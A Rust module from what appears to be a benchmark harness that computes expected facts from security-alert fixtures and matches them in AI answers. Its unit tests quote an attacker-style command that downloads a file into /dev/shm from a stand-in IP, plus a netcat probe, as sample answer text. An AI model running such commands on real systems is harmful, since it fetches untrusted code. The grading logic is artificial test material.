//! Expected facts: literals from the generator's ground truth, or figures the harness computes
//! itself over the dataset's alerts (parsed from the fixture files, filtered with the reference
//! scope evaluator `Scope::matches`, counted here), and how a fact is found in an answer.

use std::collections::BTreeMap;

use chrono::{DateTime, Duration, Utc};
use saker_tools::alert::Alert;
use saker_tools::scope::{FieldRef, Scope};

use crate::dataset::Dataset;
use crate::suite::{AlertSet, FactSpec, Grouped};

/// What to look for in an answer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Needle {
    /// A whole number (`1,234` and `1234` both match 1234).
    Number(u64),
    /// A name or phrase, case-insensitive, at word boundaries.
    Text(String),
    /// Any one of these.
    AnyOf(Vec<Needle>),
}

impl Needle {
    /// The needle as the report shows it.
    pub fn describe(&self) -> String {
        match self {
            Needle::Number(number) => number.to_string(),
            Needle::Text(text) => format!("{text:?}"),
            Needle::AnyOf(needles) => {
                format!("one of [{}]", needles.iter().map(Needle::describe).collect::<Vec<_>>().join(", "))
            }
        }
    }

    /// True when the needle occurs in `text`.
    pub fn found_in(&self, text: &AnswerText) -> bool {
        match self {
            Needle::Number(number) => text.numbers.contains(number),
            Needle::Text(needle) => contains_word(&text.lowered, &needle.to_lowercase()),
            Needle::AnyOf(needles) => needles.iter().any(|needle| needle.found_in(text)),
        }
    }
}

/// One expected fact: how it was derived, and the needle.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExpectedFact {
    /// How the harness got it (`count of k8s.ns.name=web`), for the report.
    pub derivation: String,
    /// What to look for.
    pub needle: Needle,
}

/// The answer prepared for matching: lowercased with Markdown escapes removed and adjacent code
/// spans joined, and the whole numbers it states.
#[derive(Debug, Clone, Default)]
pub struct AnswerText {
    lowered: String,
    numbers: Vec<u64>,
}

impl AnswerText {
    /// Prepares `answer`.
    pub fn new(answer: &str) -> AnswerText {
        // A command line printed as two code spans (`curl -o f` `http://x/f`: an address
        // starts a span of its own) reads as one command.
        let unescaped = unescape_markdown(answer).replace("` `", " ");
        AnswerText { numbers: whole_numbers(&unescaped), lowered: unescaped.to_lowercase() }
    }
}

/// Resolves a fact spec against the dataset at `now`; `each` gives one fact per value.
pub fn resolve(spec: &FactSpec, dataset: &Dataset, now: DateTime<Utc>) -> Result<Vec<ExpectedFact>, String> {
    match spec {
        FactSpec::Number(number) => {
            Ok(vec![ExpectedFact { derivation: "literal".into(), needle: Needle::Number(*number) }])
        }
        FactSpec::Text(text) => {
            Ok(vec![ExpectedFact { derivation: "literal".into(), needle: Needle::Text(text.clone()) }])
        }
        FactSpec::Query(query) => {
            let mut facts = Vec::new();
            if let Some(set) = &query.count {
                let count = select(dataset, set, now)?.len();
                facts.push(ExpectedFact {
                    derivation: format!("count of {}", describe_set(set)),
                    needle: Needle::Number(count as u64),
                });
            }
            if let Some(grouped) = &query.distinct {
                let values = values_by_count(dataset, grouped, now)?;
                facts.push(ExpectedFact {
                    derivation: format!("distinct {} in {}", grouped.by, describe_set(&grouped.set())),
                    needle: Needle::Number(values.len() as u64),
                });
            }
            if let Some(grouped) = &query.top {
                let values = values_by_count(dataset, grouped, now)?;
                let (top, _) = values
                    .first()
                    .ok_or_else(|| format!("top {}: no alert in {}", grouped.by, describe_set(&grouped.set())))?;
                facts.push(ExpectedFact {
                    derivation: format!("top {} in {}", grouped.by, describe_set(&grouped.set())),
                    needle: Needle::Text(top.clone()),
                });
            }
            if let Some(grouped) = &query.each {
                let values = values_by_count(dataset, grouped, now)?;
                if values.is_empty() {
                    return Err(format!("each {}: no alert in {}", grouped.by, describe_set(&grouped.set())));
                }
                let limit = grouped.limit.unwrap_or(usize::MAX);
                for (value, _) in values.into_iter().take(limit) {
                    facts.push(ExpectedFact {
                        derivation: format!("each {} in {}", grouped.by, describe_set(&grouped.set())),
                        needle: Needle::Text(value),
                    });
                }
            }
            if let Some(alternatives) = &query.any_of {
                let mut needles = Vec::new();
                for alternative in alternatives {
                    needles.extend(resolve(alternative, dataset, now)?.into_iter().map(|fact| fact.needle));
                }
                facts.push(ExpectedFact { derivation: "any of".into(), needle: Needle::AnyOf(needles) });
            }
            if facts.is_empty() {
                return Err("a fact query needs one of count, distinct, top, each, any_of".into());
            }
            Ok(facts)
        }
    }
}

/// The alerts of `set`, in the dataset's order.
pub fn select<'a>(dataset: &'a Dataset, set: &AlertSet, now: DateTime<Utc>) -> Result<Vec<&'a Alert>, String> {
    let scope = Scope::parse(set.scope.as_deref().unwrap_or("")).map_err(|error| format!("scope: {error}"))?;
    let (since, until) = window(set, now)?;
    Ok(dataset
        .alerts
        .iter()
        .filter(|alert| since.is_none_or(|since| alert.time >= since))
        .filter(|alert| until.is_none_or(|until| alert.time < until))
        .filter(|alert| scope.matches(alert))
        .collect())
}

/// A time range `[since, until)`; `None` is unbounded on that side.
pub type TimeBounds = (Option<DateTime<Utc>>, Option<DateTime<Utc>>);

/// The time bounds of a set.
pub fn window(set: &AlertSet, now: DateTime<Utc>) -> Result<TimeBounds, String> {
    if let Some(last) = &set.last {
        return Ok((Some(now - parse_duration(last)?), Some(now)));
    }
    if let Some(previous) = &set.previous {
        let length = parse_duration(previous)?;
        return Ok((Some(now - length - length), Some(now - length)));
    }
    let parse = |text: &Option<String>| -> Result<Option<DateTime<Utc>>, String> {
        text.as_deref()
            .map(|text| {
                DateTime::parse_from_rfc3339(text)
                    .map(|time| time.with_timezone(&Utc))
                    .map_err(|error| format!("{text:?} is not RFC 3339: {error}"))
            })
            .transpose()
    };
    Ok((parse(&set.since)?, parse(&set.until)?))
}

/// `30m`, `24h`, `7d`, `2w`.
pub fn parse_duration(text: &str) -> Result<Duration, String> {
    let text = text.trim();
    let (number, unit) = text.split_at(text.find(|character: char| !character.is_ascii_digit()).unwrap_or(text.len()));
    let amount: i64 = number.parse().map_err(|_| format!("duration {text:?}: expected a number and m, h, d or w"))?;
    match unit {
        "m" => Ok(Duration::minutes(amount)),
        "h" => Ok(Duration::hours(amount)),
        "d" => Ok(Duration::days(amount)),
        "w" => Ok(Duration::weeks(amount)),
        _ => Err(format!("duration {text:?}: unit {unit:?}; allowed: m, h, d, w")),
    }
}

/// The values of a field over a set, most frequent first, then by name.
fn values_by_count(dataset: &Dataset, grouped: &Grouped, now: DateTime<Utc>) -> Result<Vec<(String, usize)>, String> {
    let alerts = select(dataset, &grouped.set(), now)?;
    let field = FieldRef::resolve(&grouped.by);
    let mut counts: BTreeMap<String, usize> = BTreeMap::new();
    for alert in alerts {
        for value in field_values(alert, &field) {
            *counts.entry(value).or_default() += 1;
        }
    }
    let mut values: Vec<(String, usize)> = counts.into_iter().collect();
    values.sort_by(|left, right| right.1.cmp(&left.1).then_with(|| left.0.cmp(&right.0)));
    Ok(values)
}

/// The values of a field of one alert (several for tags, MITRE IDs and tools).
pub fn field_values(alert: &Alert, field: &FieldRef) -> Vec<String> {
    match field {
        FieldRef::Dimension(dimension) => alert.dimension_values(*dimension).into_iter().map(str::to_string).collect(),
        FieldRef::OutputField(key) => alert.field_text(key).into_iter().collect(),
    }
}

fn describe_set(set: &AlertSet) -> String {
    let mut parts = vec![match set.scope.as_deref() {
        Some(scope) if !scope.is_empty() => scope.to_string(),
        _ => "every alert".to_string(),
    }];
    if let Some(last) = &set.last {
        parts.push(format!("last {last}"));
    }
    if let Some(previous) = &set.previous {
        parts.push(format!("the {previous} before the last {previous}"));
    }
    if let Some(since) = &set.since {
        parts.push(format!("since {since}"));
    }
    if let Some(until) = &set.until {
        parts.push(format!("until {until}"));
    }
    parts.join(", ")
}

/// Removes the backslash before escaped ASCII punctuation (`\_`, `\*`).
fn unescape_markdown(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut characters = text.chars().peekable();
    while let Some(character) = characters.next() {
        if character == '\\' && characters.peek().is_some_and(char::is_ascii_punctuation) {
            continue;
        }
        out.push(character);
    }
    out
}

/// Whole numbers written in `text`: digit runs (with `,` between groups of three) that are not
/// part of a word, a date, a time, a version, an address or a decimal.
fn whole_numbers(text: &str) -> Vec<u64> {
    let characters: Vec<char> = text.chars().collect();
    let joins = |character: char| character.is_ascii_alphanumeric() || "-:./_".contains(character);
    let mut numbers = Vec::new();
    let mut index = 0;
    while index < characters.len() {
        if !characters[index].is_ascii_digit() {
            index += 1;
            continue;
        }
        let start = index;
        let mut digits = String::new();
        while index < characters.len() {
            let character = characters[index];
            if character.is_ascii_digit() {
                digits.push(character);
                index += 1;
            } else if character == ','
                && characters.get(index + 1..index + 4).is_some_and(|group| group.iter().all(char::is_ascii_digit))
                && characters.get(index + 4).is_none_or(|after| !after.is_ascii_digit())
            {
                index += 1;
            } else {
                break;
            }
        }
        let before = start.checked_sub(1).and_then(|position| characters.get(position)).copied();
        let after = characters.get(index).copied();
        let decimal = after == Some('.') && characters.get(index + 1).is_some_and(char::is_ascii_digit);
        let attached = before.is_some_and(joins) || after.is_some_and(|after| after != '.' && joins(after)) || decimal;
        if !attached && let Ok(number) = digits.parse() {
            numbers.push(number);
        }
    }
    numbers
}

/// True when `needle` occurs in `haystack` with no ASCII letter or digit glued to either end
/// (where the needle itself starts or ends with one).
fn contains_word(haystack: &str, needle: &str) -> bool {
    if needle.is_empty() {
        return false;
    }
    let starts_alphanumeric = needle.chars().next().is_some_and(|character| character.is_ascii_alphanumeric());
    let ends_alphanumeric = needle.chars().last().is_some_and(|character| character.is_ascii_alphanumeric());
    let mut from = 0;
    while let Some(offset) = haystack[from..].find(needle) {
        let start = from + offset;
        let end = start + needle.len();
        let before_ok = !starts_alphanumeric
            || haystack[..start].chars().last().is_none_or(|character| !character.is_ascii_alphanumeric());
        let after_ok = !ends_alphanumeric
            || haystack[end..].chars().next().is_none_or(|character| !character.is_ascii_alphanumeric());
        if before_ok && after_ok {
            return true;
        }
        from = start + haystack[start..].chars().next().map_or(1, char::len_utf8);
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn whole_numbers_skip_dates_ids_versions_and_decimals() {
        let text =
            "**1,234 alerts** in `risk-10-aws` on 2026-11-19 12:09:34 (T1059.004), 140件, +94.3% and 7 days, v2.4.1";
        assert_eq!(whole_numbers(text), vec![1234, 140, 7]);
        assert_eq!(whole_numbers("(300) 12, 34"), vec![300, 12, 34]);
    }

    #[test]
    fn words_match_at_boundaries_only() {
        assert!(contains_word("ran nc -z host", "nc"));
        assert!(!contains_word("ran sync", "nc"));
        assert!(contains_word("`risk-10-aws-bedrock-java`", "risk-10-aws-bedrock-java"));
        assert!(contains_word("偵察イベントは68件", "偵察"));
        assert!(contains_word("rule (open+create) fired", "(open+create)"));
        assert!(!contains_word("t10590", "t1059"));
    }

    #[test]
    fn markdown_escapes_are_removed() {
        assert_eq!(unescape_markdown(r"a\_b \*c\* d\\e"), r"a_b *c* d\e");
    }

    #[test]
    fn a_command_split_into_two_code_spans_reads_as_one() {
        let text = AnswerText::new("ran `curl -fsSL -o /dev/shm/x` `http://203.0.113.50/dl/x` then");
        assert!(Needle::Text("curl -fsSL -o /dev/shm/x http://203.0.113.50/dl/x".into()).found_in(&text));
        assert!(!Needle::Text("curl -fsSL -o /dev/shm/x http://198.51.100.1".into()).found_in(&text));
    }

    #[test]
    fn durations() {
        assert_eq!(parse_duration("7d"), Ok(Duration::days(7)));
        assert_eq!(parse_duration("24h"), Ok(Duration::hours(24)));
        assert!(parse_duration("7x").is_err());
        assert!(parse_duration("d").is_err());
    }
}
